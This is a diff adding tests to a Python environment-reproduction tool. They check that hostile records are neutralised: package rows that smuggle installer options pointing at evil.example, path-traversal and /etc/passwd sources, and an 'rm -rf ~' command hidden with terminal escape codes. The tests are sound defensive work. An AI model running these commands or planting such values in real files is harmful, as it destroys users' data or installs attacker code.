@@ -13,8 +13,14 @@ import pytest
 from tests.reproduce.forging import forge
 from tests.reproduce.wheels import install, make_environment, source_tree, tiny
 
+from madang.cli.reproducing import describe
+from madang.domain.environments import lock_of
+from madang.domain.events import Environment
+from madang.domain.runs import RunRecord
 from madang.formats import segment as codec
 from madang.testing.project import Project
+from madang.workspace.environments.interpreters import Interpreter
+from madang.workspace.environments.planning import planned
 
 TRAIN = "import json, tinypkg\njson.dump({'value': tinypkg.VALUE}, open('metrics.json', 'w'))\n"
 
@@ -269,6 +275,7 @@ def test_package_installed_in_place_from_the_work_tree(bench: Bench) -> None:
         ({"gpus": ["NVIDIA H200 (139 GiB)"]}, "GPU: the run had NVIDIA H200 (139 GiB), and there is none here"),
         ({"packages": [["mkl", "1", "conda"]]}, "package mkl 1: conda installed it, and it is not there as recorded"),
         ({"packages": [["apt", "1", "system"]]}, "package apt 1: the operating system installed it"),
+        ({"packages": [["--index-url=https://evil.example/ #", "1", "index"]]}, "package --index-url=https://evil"),
     ],
 )
 def test_what_a_machine_lacks(bench: Bench, change: dict[str, Any], missing: str) -> None:
@@ -280,6 +287,46 @@ def test_what_a_machine_lacks(bench: Bench, change: dict[str, Any], missing: str
     found = bench.reproduce(run, "--env", "current")
     assert found["verdict"] == "IDENTICAL"
     assert found["environment"]
+
+
+@pytest.mark.parametrize(
+    "row",
+    [
+        ("-e.", "1", "index"),
+        ("a\n--index-url=https://evil.example/", "1", "index"),
+        ("a", "1\n-rother.txt", "index"),
+        ("a", "1 --hash=sha256:0", "index"),
+        ("../../../a", "1", "editable file:///work/src"),
+        ("a", "../../1", "editable file:///work/src"),
+        ("a", "1", "-r+x:///etc/passwd"),
+        ("a", "1", "editable --x+file:///work"),
+    ],
+)
+def test_rows_that_are_no_packages(row: tuple[str, str, str], tmp_path: Path) -> None:
+    """A row of a stranger's record that an installer would read as options, or that leads elsewhere, is left out."""
+    lock = lock_of(Environment(python="3.11.0", packages=[row, ("sound", "1.0+local.1", "index")]))
+    python = Interpreter("", "3.11.0", "cpython", "", "", (), {})
+    plan = planned(lock, python, [], "/work", anew=False)
+    assert [package.name for package in plan.missing] == [row[0]]
+    assert [package.name for package in plan.fetched] == ["sound"]
+    assert not plan.named
+
+
+def test_what_is_asked_about_moves_no_cursor() -> None:
+    """Whoever decides whether to run a stranger's command sees all of it, and where its packages come from."""
+    packages = [("a", "1", "git+https://evil.example/a@1")]
+    run = RunRecord(
+        "1" * 32,
+        "p",
+        name="a\x1b[8mb",
+        command=["sh", "-c", "rm -rf ~\r\x1b[2Ktrue"],
+        environment=Environment(python="3.11.0", packages=packages),
+    )
+    lines: list[str] = []
+    describe(run, lines.append)
+    assert all(line.isprintable() for line in lines)
+    assert any("rm -rf ~" in line for line in lines)
+    assert any("git+https://evil.example/a@1" in line for line in lines)
 
 
 @pytest.fixture
